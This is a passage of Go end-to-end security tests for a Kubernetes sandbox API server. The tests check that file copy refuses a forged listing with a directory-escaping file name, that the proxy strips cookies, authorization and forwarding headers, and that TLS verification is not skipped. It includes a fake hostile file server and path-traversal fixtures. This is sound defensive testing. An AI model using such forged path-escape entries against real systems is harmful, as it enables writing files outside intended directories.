				t.Errorf("cp: exit %d: %s; want it to refuse %q", r.code, r.stderr, name)
			}
			entries, _ := os.ReadDir(parent)
			for _, e := range entries {
				if e.Name() != "dst" {
					t.Errorf("cp wrote %s next to the destination", e.Name())
				}
			}
			// Inside it, nothing but what came before the hostile entry.
			_ = filepath.WalkDir(filepath.Join(parent, "dst"), func(p string, d fs.DirEntry, err error) error {
				if rel, _ := filepath.Rel(filepath.Join(parent, "dst"), p); err == nil && rel != "." && rel != "fine.txt" {
					t.Errorf("cp wrote %s in the destination", rel)
				}
				return nil
			})
		})
	}
}

// hostileFilesServer answers the files API as a sandbox that forged its listing: a directory d
// with a fine file and one named to escape.
func hostileFilesServer(t *testing.T, name string) *httptest.Server {
	t.Helper()
	const gv = `"apiVersion":"sandbox.kube-sandbox.io/v1alpha1"`
	entry := func(n, typ string) string {
		b, _ := json.Marshal(n)
		return fmt.Sprintf(`{%s,"kind":"SandboxFile","name":%s,"path":%s,"type":%q,"size":5,"mode":"0644","modTime":"2026-01-01T00:00:00Z"}`, gv, b, b, typ)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case req.URL.Query().Get("stat") != "":
			_, _ = io.WriteString(w, entry("d", "dir"))
		case strings.HasSuffix(req.URL.Path, "/files/d"):
			fmt.Fprintf(w, `{%s,"kind":"SandboxFileList","items":[%s,%s]}`, gv, entry("fine.txt", "file"), entry(name, "file"))
		default:
			w.Header().Set("Content-Type", "application/octet-stream")
			_, _ = io.WriteString(w, "owned")
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// headerEcho answers every request with its path, query and headers, as JSON.
const headerEcho = `
import http.server, json, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        u = urllib.parse.urlsplit(self.path)
        body = json.dumps({"path": u.path, "query": urllib.parse.parse_qs(u.query),
                           "headers": [[k, v] for k, v in self.headers.items()]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args): pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), H).serve_forever()
`

// TestSecurityProxyHeaders: what reaches a sandbox through sandboxes/proxy names nobody: no
// credentials, cookies, impersonation, or the aggregator's X-Remote-* headers; the caller's
// own headers and query parameters arrive.
func TestSecurityProxyHeaders(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	bindUsers(t, ns)
	if r := sandboxCmd(t, ns, "create", "echo", "--image", pythonImage, "--", "python3", "-c", headerEcho); r.code != 0 {
		t.Fatalf("create: %s", r.stderr)
	}
	waitSandboxRunning(t, ns, 90*time.Second, "echo")

	cfg, err := clientcmd.BuildConfigFromFlags("", os.Getenv("KUBECONFIG"))
	if err != nil {
		t.Fatal(err)
	}
	cfg.Impersonate = rest.ImpersonationConfig{UserName: sandboxOnlyUser, Groups: []string{"system:authenticated", "e2e-sandbox-users"}}
	hc, err := rest.HTTPClientFor(cfg)
	if err != nil {
		t.Fatal(err)
	}
	u := fmt.Sprintf("%s/apis/sandbox.kube-sandbox.io/v1alpha1/namespaces/%s/sandboxes/echo/proxy/8080/some/path?path=mine&replica=mine-too&x=%s",
		cfg.Host, ns, url.QueryEscape("a b"))
	var echo struct {
		Path    string
		Query   map[string][]string
		Headers [][2]string
	}
	var body []byte
	waitFor(t, "the echo server answers", 30*time.Second, func() (bool, string) {
		req, _ := http.NewRequest(http.MethodGet, u, nil)
		req.Header.Set("Cookie", "session=caller-cookie")
		req.Header.Set("X-Forwarded-For", "203.0.113.7")
		req.Header.Set("X-Forwarded-Host", "caller.example")
		req.Header.Set("Forwarded", "for=203.0.113.7")
		req.Header.Set("X-Real-Ip", "203.0.113.7")
		req.Header.Set("Proxy-Authorization", "Basic Y2FsbGVyOnNlY3JldA==")
		req.Header.Set("X-Sandbox-Custom", "kept")
		resp, err := hc.Do(req)
		if err != nil {
			return false, err.Error()
		}
		defer resp.Body.Close()
		body, _ = io.ReadAll(resp.Body)
		return resp.StatusCode == http.StatusOK, resp.Status + " " + string(body)
	})
	if err := json.Unmarshal(body, &echo); err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	t.Logf("the sandbox saw %s %v %v", echo.Path, echo.Query, echo.Headers)
	if echo.Path != "/some/path" || strings.Join(echo.Query["path"], ",") != "mine" || strings.Join(echo.Query["replica"], ",") != "mine-too" ||
		strings.Join(echo.Query["x"], ",") != "a b" {
		t.Errorf("path %q query %v; want /some/path and the caller's path, replica and x", echo.Path, echo.Query)
	}
	custom := false
	for _, h := range echo.Headers {
		name := strings.ToLower(h[0])
		switch {
		case name == "x-sandbox-custom" && h[1] == "kept":
			custom = true
		case name == "authorization", name == "proxy-authorization", name == "cookie", name == "forwarded", name == "x-real-ip",
			strings.HasPrefix(name, "x-forwarded-"), strings.HasPrefix(name, "x-remote-"), strings.HasPrefix(name, "impersonate-"):
			t.Errorf("the sandbox saw %s: %s", h[0], h[1])
		}
		if strings.Contains(h[1], sandboxOnlyUser) || strings.Contains(h[1], "e2e-sandbox-users") || strings.Contains(h[1], "203.0.113.7") {
			t.Errorf("a header names the caller: %s: %s", h[0], h[1])
		}
	}
	if !custom {
		t.Errorf("the caller's own header did not arrive: %v", echo.Headers)
	}
}

// TestSecurityAPIService: the kube-apiserver verifies sandbox-apiserver with the caBundle of
// the APIService (the kube-sandbox CA), not by skipping verification, and finds it Available.
func TestSecurityAPIService(t *testing.T) {
	t.Parallel()
	var svc struct {
		Spec struct {
			CABundle              string
			InsecureSkipTLSVerify bool
		}
		Status struct{ Conditions []condition }
	}
	getJSON(t, &svc, "get", "apiservice", "v1alpha1.sandbox.kube-sandbox.io")
	if c := findCondition(svc.Status.Conditions, "Available"); c.Status != "True" {
		t.Errorf("APIService not Available: %+v", c)
	}
	if svc.Spec.InsecureSkipTLSVerify {
		t.Error("the APIService skips TLS verification")
	}
	caB64 := mustKubectl(t, "-n", "kube-sandbox-system", "get", "secret", "kube-sandbox-ca", "-o", "jsonpath={.data.ca\\.crt}")
	bundle, err1 := base64.StdEncoding.DecodeString(svc.Spec.CABundle)
	ca, err2 := base64.StdEncoding.DecodeString(caB64)
	if err1 != nil || err2 != nil || len(ca) == 0 || string(bundle) != string(ca) {
		t.Errorf("the caBundle (%d bytes, %v) is not the kube-sandbox CA (%d bytes, %v)", len(bundle), err1, len(ca), err2)
	}
	mustKubectl(t, "get", "--raw", "/apis/sandbox.kube-sandbox.io/v1alpha1")
}
